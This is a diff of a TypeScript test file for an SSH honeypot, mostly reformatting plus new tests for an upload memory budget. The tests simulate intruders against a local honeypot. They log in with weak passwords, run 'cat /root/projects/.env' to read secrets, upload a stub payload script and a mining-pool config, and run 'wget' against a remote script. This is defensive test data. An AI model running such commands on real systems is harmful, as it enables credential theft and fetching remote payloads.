@@ -1,10 +1,10 @@
+import { createHash } from "node:crypto"
 import * as fs from "node:fs"
 import * as os from "node:os"
 import * as path from "node:path"
-import { createHash } from "node:crypto"
 import { describe, expect, it } from "@effect/vitest"
 import { Effect } from "effect"
-import { Upload } from "../../src/honeypots/ssh/Capture.js"
+import { MAX_UPLOAD_BYTES, Upload, UploadBudget } from "../../src/honeypots/ssh/Capture.js"
 import { sshHoneypot } from "../../src/honeypots/ssh/index.js"
 import { ScpSink } from "../../src/honeypots/ssh/Scp.js"
 import { eventsOf, nmapService, nmapServiceXml, run, TestLayer, waitForEvents } from "./support.js"
@@ -18,11 +18,16 @@ const start = Effect.gen(function* () {
 })
 
 const sshArgs = (port: number, user = "root") => [
-  "-o", "StrictHostKeyChecking=no",
-  "-o", "UserKnownHostsFile=/dev/null",
-  "-o", "PubkeyAuthentication=no",
-  "-o", "LogLevel=ERROR",
-  "-p", String(port),
+  "-o",
+  "StrictHostKeyChecking=no",
+  "-o",
+  "UserKnownHostsFile=/dev/null",
+  "-o",
+  "PubkeyAuthentication=no",
+  "-o",
+  "LogLevel=ERROR",
+  "-p",
+  String(port),
   `${user}@127.0.0.1`
 ]
 
@@ -30,7 +35,13 @@ describe("ssh honeypot", () => {
   it.live("exec: logs the credential and the command, answers from the fake shell", () =>
     Effect.gen(function* () {
       const port = yield* start
-      const r = yield* run("sshpass", ["-p", "admin", "ssh", ...sshArgs(port), "uname -a; cat /root/projects/.env"])
+      const r = yield* run("sshpass", [
+        "-p",
+        "admin",
+        "ssh",
+        ...sshArgs(port),
+        "uname -a; cat /root/projects/.env"
+      ])
       expect(r.stdout).toContain("Linux decky-01 5.15.0-88-generic")
       expect(r.stdout).toContain("DB_PASS=changeme123")
       const es = yield* waitForEvents((es) => es.some((e) => e.type === "command"))
@@ -46,19 +57,37 @@ describe("ssh honeypot", () => {
       })
       const cmd = es.filter((e) => e.type === "command")
       expect(cmd).toHaveLength(1)
-      expect(cmd[0]!.fields).toMatchObject({ cmd: "uname -a; cat /root/projects/.env", uid: "0", user: "root", src_ip: "127.0.0.1", pwd: "/root" })
-      expect(cmd[0]!.msg).toBe("CMD uid=0 user=root src=127.0.0.1 pwd=/root cmd=uname -a; cat /root/projects/.env")
+      expect(cmd[0]!.fields).toMatchObject({
+        cmd: "uname -a; cat /root/projects/.env",
+        uid: "0",
+        user: "root",
+        src_ip: "127.0.0.1",
+        pwd: "/root"
+      })
+      expect(cmd[0]!.msg).toBe(
+        "CMD uid=0 user=root src=127.0.0.1 pwd=/root cmd=uname -a; cat /root/projects/.env"
+      )
     }).pipe(Effect.provide(layer), Effect.scoped)
   )
 
   it.live("wrong password: attempts logged, permission denied, no command", () =>
     Effect.gen(function* () {
       const port = yield* start
-      const r = yield* run("sshpass", ["-p", "hunter2", "ssh", "-o", "NumberOfPasswordPrompts=2", ...sshArgs(port), "id"])
+      const r = yield* run("sshpass", [
+        "-p",
+        "hunter2",
+        "ssh",
+        "-o",
+        "NumberOfPasswordPrompts=2",
+        ...sshArgs(port),
+        "id"
+      ])
       expect([5, 255]).toContain(r.code)
       const auth = yield* eventsOf("auth_attempt")
       expect(auth.length).toBeGreaterThanOrEqual(1)
-      expect(auth.every((a) => a.fields.secret_printable === "hunter2" && a.fields.principal === "root")).toBe(true)
+      expect(
+        auth.every((a) => a.fields.secret_printable === "hunter2" && a.fields.principal === "root")
+      ).toBe(true)
       expect(yield* eventsOf("command")).toHaveLength(0)
     }).pipe(Effect.provide(layer), Effect.scoped)
   )
@@ -91,13 +120,38 @@ describe("ssh honeypot", () => {
       const local = path.join(artifacts, "payload.sh")
       const body = `#!/bin/sh\necho pwned ${Math.random()}\n`
       fs.writeFileSync(local, body)
-      const r = yield* run("sshpass", ["-p", "admin", "scp", "-O", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "PubkeyAuthentication=no", "-o", "LogLevel=ERROR", "-P", String(port), local, "root@127.0.0.1:/tmp/x"])
+      const r = yield* run("sshpass", [
+        "-p",
+        "admin",
+        "scp",
+        "-O",
+        "-o",
+        "StrictHostKeyChecking=no",
+        "-o",
+        "UserKnownHostsFile=/dev/null",
+        "-o",
+        "PubkeyAuthentication=no",
+        "-o",
+        "LogLevel=ERROR",
+        "-P",
+        String(port),
+        local,
+        "root@127.0.0.1:/tmp/x"
+      ])
       expect(r.code).toBe(0)
       const es = yield* waitForEvents((es) => es.some((e) => e.type === "file_captured"))
       const cap = es.find((e) => e.type === "file_captured")!
       const sha = createHash("sha256").update(body).digest("hex")
-      expect(cap.fields).toMatchObject({ sha256: sha, size: String(body.length), orig_path: "/tmp/x", src_ip: "127.0.0.1", ssh_user: "root" })
-      expect(fs.readFileSync(path.join(artifacts, "ssh", "captured", cap.fields.stored_as!), "utf8")).toBe(body)
+      expect(cap.fields).toMatchObject({
+        sha256: sha,
+        size: String(body.length),
+        orig_path: "/tmp/x",
+        src_ip: "127.0.0.1",
+        ssh_user: "root"
+      })
+      expect(fs.readFileSync(path.join(artifacts, "ssh", "captured", cap.fields.stored_as!), "utf8")).toBe(
+        body
+      )
     }).pipe(Effect.provide(layer), Effect.scoped)
   )
 
@@ -107,7 +161,23 @@ describe("ssh honeypot", () => {
       const local = path.join(artifacts, "miner.cfg")
       const body = `{"pool":"stratum+tcp://203.0.113.5:3333","nonce":${Math.random()}}`
       fs.writeFileSync(local, body)
-      const r = yield* run("sshpass", ["-p", "admin", "scp", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "PubkeyAuthentication=no", "-o", "LogLevel=ERROR", "-P", String(port), local, "root@127.0.0.1:/dev/shm/"])
+      const r = yield* run("sshpass", [
+        "-p",
+        "admin",
+        "scp",
+        "-o",
+        "StrictHostKeyChecking=no",
+        "-o",
+        "UserKnownHostsFile=/dev/null",
+        "-o",
+        "PubkeyAuthentication=no",
+        "-o",
+        "LogLevel=ERROR",
+        "-P",
+        String(port),
+        local,
+        "root@127.0.0.1:/dev/shm/"
+      ])
       expect(r.stderr).toBe("")
       expect(r.code).toBe(0)
       const es = yield* waitForEvents((es) => es.some((e) => e.type === "file_captured"))
@@ -124,11 +194,38 @@ describe("ssh honeypot", () => {
       const local = path.join(artifacts, "tool.bin")
       const body = Buffer.from(Array.from({ length: 70_000 }, (_, i) => i % 251))
       fs.writeFileSync(local, body)
-      const r = yield* run("sshpass", ["-p", "admin", "sftp", "-o", "BatchMode=no", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "PubkeyAuthentication=no", "-o", "LogLevel=ERROR", "-P", String(port), "-b", "-", "root@127.0.0.1"], { input: `put ${local} /tmp/tool.bin\n` })
+      const r = yield* run(
+        "sshpass",
+        [
+          "-p",
+          "admin",
+          "sftp",
+          "-o",
+          "BatchMode=no",
+          "-o",
+          "StrictHostKeyChecking=no",
+          "-o",
+          "UserKnownHostsFile=/dev/null",
+          "-o",
+          "PubkeyAuthentication=no",
+          "-o",
+          "LogLevel=ERROR",
+          "-P",
+          String(port),
+          "-b",
+          "-",
+          "root@127.0.0.1"
+        ],
+        { input: `put ${local} /tmp/tool.bin\n` }
+      )
       expect(r.code).toBe(0)
       const es = yield* waitForEvents((es) => es.some((e) => e.type === "file_captured"))
       const cap = es.find((e) => e.type === "file_captured")!
-      expect(cap.fields).toMatchObject({ sha256: createHash("sha256").update(body).digest("hex"), size: "70000", orig_path: "/tmp/tool.bin" })
+      expect(cap.fields).toMatchObject({
+        sha256: createHash("sha256").update(body).digest("hex"),
+        size: "70000",
+        orig_path: "/tmp/tool.bin"
+      })
     }).pipe(Effect.provide(layer), Effect.scoped)
   )
 
@@ -139,15 +236,51 @@ describe("ssh honeypot", () => {
       yield* run("ssh-keygen", ["-q", "-t", "ed25519", "-N", "", "-f", key])
       const pub = fs.readFileSync(`${key}.pub`, "utf8").split(" ")[1]!
       const fp = `SHA256:${createHash("sha256").update(Buffer.from(pub, "base64")).digest("base64").replace(/=+$/, "")}`
-      const r = yield* run("ssh", ["-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "BatchMode=yes", "-o", "IdentitiesOnly=yes", "-i", key, "-o", "LogLevel=ERROR", "-p", String(port), "deploy@127.0.0.1", "id"])
+      const r = yield* run("ssh", [
+        "-o",
+        "StrictHostKeyChecking=no",
+        "-o",
+        "UserKnownHostsFile=/dev/null",
+        "-o",
+        "BatchMode=yes",
+        "-o",
+        "IdentitiesOnly=yes",
+        "-i",
+        key,
+        "-o",
+        "LogLevel=ERROR",
+        "-p",
+        String(port),
+        "deploy@127.0.0.1",
+        "id"
+      ])
       expect(r.code).toBe(255)
       const es = yield* waitForEvents((es) => es.some((e) => e.fields.secret_kind === "publickey"))
       const pk = es.find((e) => e.fields.secret_kind === "publickey")!
-      expect(pk.fields).toMatchObject({ principal: "deploy", fingerprint: fp, secret_printable: fp, secret_b64: pub, key_algo: "ssh-ed25519", src_ip: "127.0.0.1" })
+      expect(pk.fields).toMatchObject({
+        principal: "deploy",
+        fingerprint: fp,
+        secret_printable: fp,
+        secret_b64: pub,
+        key_algo: "ssh-ed25519",
+        src_ip: "127.0.0.1"
+      })
 
-      const ki = yield* run("sshpass", ["-p", "s3cr3t!", "ssh", "-o", "PreferredAuthentications=keyboard-interactive", "-o", "NumberOfPasswordPrompts=1", ...sshArgs(port, "oracle"), "id"])
+      const ki = yield* run("sshpass", [
+        "-p",
+        "s3cr3t!",
+        "ssh",
+        "-o",
+        "PreferredAuthentications=keyboard-interactive",
+        "-o",
+        "NumberOfPasswordPrompts=1",
+        ...sshArgs(port, "oracle"),
+        "id"
+      ])
       expect(ki.code).toBe(255)
-      const kiEvents = yield* waitForEvents((es) => es.some((e) => e.fields.method === "keyboard-interactive"))
+      const kiEvents = yield* waitForEvents((es) =>
+        es.some((e) => e.fields.method === "keyboard-interactive")
+      )
       expect(kiEvents.find((e) => e.fields.method === "keyboard-interactive")!.fields).toMatchObject({
         principal: "oracle",
         secret_printable: "s3cr3t!",
@@ -163,23 +296,31 @@ describe("ssh honeypot", () => {
       const missing = yield* run("sshpass", ["-p", "admin", "ssh", ...sshArgs(port), "nosuchtool -x"])
       expect(missing.code).toBe(127)
       expect(missing.stdout).toBe("bash: nosuchtool: command not found\n")
-      const wget = yield* run("sshpass", ["-p", "admin", "ssh", ...sshArgs(port), "wget http://203.0.113.7/x.sh"])
+      const wget = yield* run("sshpass", [
+        "-p",
+        "admin",
+        "ssh",
+        ...sshArgs(port),
+        "wget http://203.0.113.7/x.sh"
+      ])
       expect(wget.code).toBe(4)
       expect(wget.stdout).toContain("failed: Temporary failure in name resolution.")
     }).pipe(Effect.provide(layer), Effect.scoped)
   )
 
-  it.live("nmap -sV sees OpenSSH 8.9p1 Ubuntu", () =>
-    Effect.gen(function* () {
-      const port = yield* start
-      const xml = yield* nmapServiceXml(port)
-      const svc = nmapService(xml)
-      expect(svc.name).toBe("ssh")
-      expect(svc.product).toBe("OpenSSH")
-      expect(svc.version).toBe("8.9p1 Ubuntu 3ubuntu0.4")
-      expect(svc.extrainfo).toBe("Ubuntu Linux; protocol 2.0")
-      expect(xml.toLowerCase()).not.toContain("honeypot")
-    }).pipe(Effect.provide(layer), Effect.scoped),
+  it.live(
+    "nmap -sV sees OpenSSH 8.9p1 Ubuntu",
+    () =>
+      Effect.gen(function* () {
+        const port = yield* start
+        const xml = yield* nmapServiceXml(port)
+        const svc = nmapService(xml)
+        expect(svc.name).toBe("ssh")
+        expect(svc.product).toBe("OpenSSH")
+        expect(svc.version).toBe("8.9p1 Ubuntu 3ubuntu0.4")
+        expect(svc.extrainfo).toBe("Ubuntu Linux; protocol 2.0")
+        expect(xml.toLowerCase()).not.toContain("honeypot")
+      }).pipe(Effect.provide(layer), Effect.scoped),
     240_000
   )
 })
@@ -208,12 +349,53 @@ describe("scp sink (pure)", () => {
     expect(new ScpSink("/tmp/x", false).feed(Buffer.alloc(5000, 0x41)).fatal).toBe(true)
   })
 
-  it("an upload past the cap stops buffering and is reported oversize", () => {
-    const u = new Upload("/tmp/big")
+  it("an upload past the cap stops buffering, frees what it held and is reported oversize", () => {
+    const budget = new UploadBudget(2 * MAX_UPLOAD_BYTES)
+    const u = new Upload("/tmp/big", budget)
     const chunk = Buffer.alloc(1024 * 1024)
-    for (let i = 0; i < 51; i++) u.write(chunk)
+    for (let i = 0; i < 50; i++) u.write(chunk)
+    expect(budget.held).toBe(50 * 1024 * 1024)
+    u.write(chunk)
     expect(u.oversize).toBe(true)
+    expect(u.skipReason).toBe("too_large")
     expect(u.size).toBe(51 * 1024 * 1024)
-    expect(u.content().length).toBe(50 * 1024 * 1024)
+    // Dropped at once: the 50 MiB are free before the upload ends, not when it is stored.
+    expect(u.content().length).toBe(0)
+    expect(budget.held).toBe(0)
+  })
+
+  it("uploads share one instance budget: past it they are skipped as buffer_full, release gives it back", () => {
+    const budget = new UploadBudget(10)
+    const a = new Upload("/tmp/a", budget)
+    const b = new Upload("/tmp/b", budget)
+    a.write(Buffer.from("123456"))
+    b.write(Buffer.from("1234"))
+    expect(budget.held).toBe(10)
+    b.write(Buffer.from("x"))
+    expect(b.skipReason).toBe("buffer_full")
+    expect(b.size).toBe(5)
+    expect(budget.held).toBe(6)
+    // b keeps counting (the event reports the size that arrived) but buffers nothing more.
+    b.write(Buffer.from("yy"))
+    expect(b.size).toBe(7)
+    expect(budget.held).toBe(6)
+    a.release()
+    a.release() // idempotent
+    expect(budget.held).toBe(0)
+    expect(a.content().toString()).toBe("123456")
+    const c = new Upload("/tmp/c", budget)
+    c.write(Buffer.alloc(10))
+    expect(c.skipReason).toBeUndefined()
+    expect(budget.held).toBe(10)
+  })
+
+  it("an scp channel that closes mid-upload gives its bytes back", () => {
+    const budget = new UploadBudget(1024)
+    const sink = new ScpSink("/tmp/x", false, budget)
+    sink.feed(Buffer.from("C0644 100 x.bin\n"))
+    sink.feed(Buffer.alloc(60, 0x41))
+    expect(budget.held).toBe(60)
+    sink.discard()
+    expect(budget.held).toBe(0)
   })
 })
